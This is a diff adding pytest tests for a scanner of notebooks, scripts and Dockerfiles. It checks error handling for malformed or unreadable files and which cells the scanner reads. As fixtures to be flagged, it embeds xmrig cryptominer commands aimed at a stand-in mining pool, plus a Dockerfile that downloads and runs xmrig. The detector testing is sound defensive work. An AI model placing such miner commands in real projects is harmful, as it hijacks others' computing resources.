@@ -1,0 +1,86 @@
+"""Every kind of bad input becomes a clear error on that file; nothing raises."""
+import json
+import os
+
+import pytest
+
+GOOD_CELL = "!./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x"
+
+
+def nb(cells, nbformat=4):
+    return json.dumps({"nbformat": nbformat, "nbformat_minor": 5, "metadata": {},
+                       "cells": [{"cell_type": "code", "source": c, "metadata": {}, "outputs": []} for c in cells]})
+
+
+@pytest.mark.parametrize("data,needle", [
+    (b'{"cells": [', "invalid JSON"),
+    (b"[1, 2, 3]", "top level is list"),
+    (b'{"metadata": {}}', "no 'cells' list"),
+    (b'{"cells": {"a": 1}}', "'cells' is dict"),
+    (b'{"cells": [1]}', "cell 0: is int"),
+    (b'{"cells": [{"cell_type": "code", "source": 5}]}', "'source' is int"),
+    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
+    (bytes(range(128, 256)) * 50, "not UTF-8"),
+])
+def test_malformed_notebooks_get_a_clear_error(engine, data, needle):
+    r = engine.scan_bytes(data, "bad.ipynb")
+    assert r.error is not None and needle in r.error
+    assert r.verdict == "allow" and r.findings == []
+
+
+def test_empty_files_are_clean_not_errors(engine):
+    for name in ("e.py", "e.sh", "e.ipynb"):
+        r = engine.scan_bytes(b"", name)
+        assert (r.error is None and r.findings == []) or (name.endswith(".ipynb") and "invalid JSON" in r.error)
+
+
+def test_nbformat3_worksheets_are_read(engine):
+    doc = {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": GOOD_CELL}]}]}
+    r = engine.scan_bytes(json.dumps(doc).encode(), "old.ipynb")
+    assert r.error is None and r.verdict == "flag"
+
+
+def test_list_sources_and_markdown_cells(engine):
+    doc = json.loads(nb([]))
+    doc["cells"] = [{"cell_type": "markdown", "source": [GOOD_CELL]},
+                    {"cell_type": "code", "source": ["x = 1\n", "print(x)\n"]}]
+    r = engine.scan_bytes(json.dumps(doc).encode(), "md.ipynb")
+    assert r.error is None and r.findings == [], "markdown is prose, not code"
+
+
+def test_outputs_are_ignored(engine):
+    doc = json.loads(nb(["print('hello')"]))
+    doc["cells"][0]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": GOOD_CELL}]
+    r = engine.scan_bytes(json.dumps(doc).encode(), "out.ipynb")
+    assert r.findings == []
+
+
+def test_missing_broken_and_directory_paths(engine, tmp_path):
+    link = tmp_path / "dangling.ipynb"
+    link.symlink_to(tmp_path / "nowhere")
+    assert engine.scan_path(link).error == "broken symbolic link"
+    assert "cannot read" in engine.scan_path(tmp_path / "absent.py").error
+    assert engine.scan_path(tmp_path).error == "is a directory"
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root reads files whatever their mode, so 'permission denied' cannot happen")
+def test_unreadable_file(engine, tmp_path):
+    p = tmp_path / "locked.py"
+    p.write_text("x = 1")
+    p.chmod(0)
+    assert engine.scan_path(p).error == "permission denied"
+
+
+def test_kernel_language_decides_how_cells_are_read(engine):
+    doc = json.loads(nb(["./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x"]))
+    doc["metadata"] = {"kernelspec": {"language": "bash", "name": "bash"}}
+    r = engine.scan_bytes(json.dumps(doc).encode(), "bash.ipynb")
+    assert "NBW202" in {f.rule_id for f in r.findings}
+
+
+def test_other_file_kinds(engine):
+    docker = b"FROM python:3.11\nRUN wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz \\\n && tar xf xmrig-6.21.0-linux-x64.tar.gz\nCMD [\"./xmrig\", \"-o\", \"stratum+tcp://pool.example.net:3333\"]\n"
+    assert engine.scan_bytes(docker, "Dockerfile").verdict == "flag"
+    assert engine.scan_bytes(b"numpy==1.26\npandas\n", "requirements.txt").findings == []
+    env = b"name: x\ndependencies:\n  - python=3.11\n  - pip:\n    - torch\n"
+    assert engine.scan_bytes(env, "environment.yml").error is None
